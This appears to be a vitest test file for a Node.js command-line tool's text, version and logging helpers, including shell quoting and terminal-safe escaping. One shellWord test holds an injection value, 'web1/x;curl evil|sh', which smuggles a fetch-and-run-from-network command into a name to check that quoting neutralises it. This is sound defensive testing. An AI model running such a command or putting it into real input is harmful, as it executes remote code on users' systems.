import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import stringWidth from "string-width";
import { describe, expect, it } from "vitest";
import { fitted, shortened } from "../../src/columns.js";
import { toJson } from "../../src/commands/context.js";
import { createLogger, logDestination, textLine } from "../../src/log.js";
import {
  counted,
  didYouMean,
  formatBytes,
  printable,
  shellWord,
  shortName,
} from "../../src/text.js";
import { nodeProblem } from "../../src/version.js";
import { outputSync } from "../support/command.js";
import { Fifo } from "../support/fifo.js";
import { project } from "../support/project.js";
import { testScope } from "../support/test-scope.js";
import { until } from "../support/wait.js";

describe("nodeProblem", () => {
  it.each(["20.17.0", "20.20.2", "22.0.0"])("%s is new enough", (version) => {
    expect(nodeProblem(version)).toBeUndefined();
  });

  it.each(["18.19.0", "20.16.9"])("%s is too old, which is said in one line", (version) => {
    expect(nodeProblem(version)).toBe(
      `needs Node.js 20.17 or later; ${process.execPath} is ${version}`,
    );
  });

  it("asks for what the package asks for", () => {
    const { engines } = JSON.parse(readFileSync(join(project, "package.json"), "utf8"));
    const [, oldest = ""] = /^>=(.*)$/.exec(engines.node) ?? [];
    expect([nodeProblem(oldest), nodeProblem("20.16.99")].map((one) => one === undefined)).toEqual([
      true,
      false,
    ]);
  });
});

describe("toJson", () => {
  it("leaves nothing to a terminal, and is the same value", () => {
    const value = { name: "a\x1b\x7f\x9b\u202e\u2028\u{e0001}b", other: "ümläut 漢字 😀" };
    const text = toJson(value);
    expect(JSON.parse(text)).toEqual(value);
    expect(text).toContain('"a\\u001b\\u007f\\u009b\\u202e\\u2028\\udb40\\udc01b"');
    expect(text).toContain(value.other);
  });
});

describe("printable", () => {
  it("shows control and direction characters instead of sending them", () => {
    expect(printable("a\x1b[1m\nb\x7f\x9b\u202ec")).toBe("a\\x1b[1m\\x0ab\\x7f\\x9b\\u202ec");
    expect(printable("ümläut 漢字 a b")).toBe("ümläut 漢字 a b");
  });

  it("leaves no control character and never confuses two names", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (a, b) => {
        expect(printable(a)).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        expect(printable(a) === printable(b)).toBe(a === b);
      }),
    );
  });
});

describe("shellWord", () => {
  it("quotes what a shell takes for more than itself", () => {
    expect(shellWord("kube/web-1:a@b.c_d")).toBe("kube/web-1:a@b.c_d");
    expect(shellWord("web1/x;curl evil|sh")).toBe("'web1/x;curl evil|sh'");
    expect(shellWord("")).toBe("''");
  });

  it("is one word to a shell, also as a terminal shows it", () => {
    const name = fc.string({
      unit: fc.constantFrom(..."ab \\'\"$`;|&<>()*?!#~{}\n"),
      maxLength: 20,
    });
    fc.assert(
      fc.property(name, (text) => {
        const words = (shown: string): string => outputSync(["sh", "-c", `printf '[%s]' ${shown}`]);
        expect(words(shellWord(text))).toBe(`[${text}]`);
        expect(words(printable(shellWord(text)))).toBe(`[${printable(text)}]`);
      }),
      { numRuns: 50 },
    );
  });
});

describe("shortened", () => {
  it("keeps both ends, so that names that begin alike stay apart", () => {
    expect(shortened("customer-frontend-1", 12)).toBe("custom…end-1");
    expect(shortened("customer-frontend-2", 12)).toBe("custom…end-2");
    expect(shortened("web1", 12)).toBe("web1");
    expect(fitted("customer-frontend-1", 12)).toBe("customer-fr…");
  });

  it("never takes more columns than there are", () => {
    const text = fc.string({ unit: "grapheme" });
    fc.assert(
      fc.property(text, fc.integer({ min: 3, max: 40 }), (name, columns) => {
        expect(stringWidth(shortened(name, columns))).toBeLessThanOrEqual(columns);
      }),
    );
  });
});

describe("shortName", () => {
  it("shows of a runtime's hash what the runtime does", () => {
    expect(shortName("0123456789abcdef".repeat(4))).toBe("0123456789ab");
    expect(shortName("0123456789abcdef")).toBe("0123456789abcdef");
    expect(shortName("a\nb")).toBe("a\\x0ab");
  });
});

describe("didYouMean", () => {
  it("suggests what is near and nothing else", () => {
    expect(didYouMean("mountpiont", ["source", "mountpoint"])).toBe(", did you mean 'mountpoint'?");
    expect(didYouMean("xyzzy", ["source", "mountpoint"])).toBe("");
    expect(didYouMean("a", [])).toBe("");
  });
});

describe("counted", () => {
  it("says how many there are", () => {
    expect([0, 1, 2].map((number) => counted(number, "warning"))).toEqual([
      "0 warnings",
      "1 warning",
      "2 warnings",
    ]);
  });
});

describe("formatBytes", () => {
  it.each([
    [0, "0 B"],
    [1023, "1023 B"],
    [1024, "1 KiB"],
    [1536, "1.5 KiB"],
    [1024 ** 3 - 1, "1 GiB"],
    [256 * 1024 ** 2, "256 MiB"],
    [23.5 * 1024 ** 3, "23.5 GiB"],
    [2 ** 63, "8 EiB"],
    [2 ** 75, "32768 EiB"],
  ])("writes %d as %s", (bytes, text) => {
    expect(formatBytes(bytes)).toBe(text);
  });
});

describe("log", () => {
  type Place = "terminal" | "journal" | "pipe";

  function logged(format: "auto" | "json" | "text", place: Place): string {
    let written = "";
    const destination = {
      write: (record: string) => {
        written += record;
      },
    };
    const log = createLogger("info", format, destination, {
      isTerminal: place === "terminal",
      isJournal: place === "journal",
    });
    log.debug("hidden");
    log.info({ path: "/a b", n: 3 }, "hello");
    return written;
  }

  it("is JSON with a level and an ISO time, without host and process", () => {
    for (const text of [logged("json", "terminal"), logged("auto", "pipe")]) {
      const { time, ...rest } = JSON.parse(text);
      expect(time).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/);
      expect(rest).toEqual({ level: "info", msg: "hello", path: "/a b", n: 3 });
    }
  });

  it("is text on a terminal or when asked for", () => {
    for (const text of [logged("text", "pipe"), logged("auto", "terminal")]) {
      expect(text).toMatch(/^\S+Z INFO {2}hello path="\/a b" n=3\n$/);
    }
  });

  it("has its priority before it in the journal, which has the time by itself", () => {
    for (const text of [logged("text", "journal"), logged("auto", "journal")]) {
      expect(text).toBe('<6>hello path="/a b" n=3\n');
    }
    const json = logged("json", "journal");
    expect(json.startsWith("<6>{")).toBe(true);
    expect(JSON.parse(json.slice(3))).toMatchObject({ level: "info", msg: "hello", n: 3 });
  });

  it("never throws at who logs, and goes on once it can be written", () => {
    const written: string[] = [];
    let isFull = true;
    const destination = {
      write: (record: string) => {
        if (isFull) {
          throw Object.assign(new Error("no room"), { code: "ENOSPC" });
        }
        written.push(record);
      },
    };
    const log = createLogger("info", "json", destination, { isTerminal: false, isJournal: false });
    log.error("lost");
    isFull = false;
    log.info("hello");
    expect(written.map((record) => JSON.parse(record).msg)).toEqual(["hello"]);
  });

  it("waits for room in a pipe that nobody reads, and nobody waits for it", async () => {
    const fifo = new Fifo(testScope());
    fifo.fill();
    const log = createLogger("info", "json", logDestination(fifo.fd));
    for (let count = 0; count < 3; count += 1) {
      log.info({ count }, "x".repeat(500_000));
    }
    fifo.drain();
    let text = "";
    await until("what waits is written", () => {
      text += fifo.drain();
      return text.split("\n").length === 3;
    });
    log.info("last");
    const lines = (text + fifo.drain()).trim().split("\n");
    // The third one is more than may wait.
    expect(lines.map((line) => JSON.parse(line).count)).toEqual([0, 1, undefined]);
  });

  it("keeps one record on one line", () => {
    const record = JSON.stringify({ time: "t", level: "warn", msg: "a\nb", name: "x\ny" });
    expect(textLine(record)).toBe("t WARN  a\\x0ab name=x\\x0ay\n");
  });
});
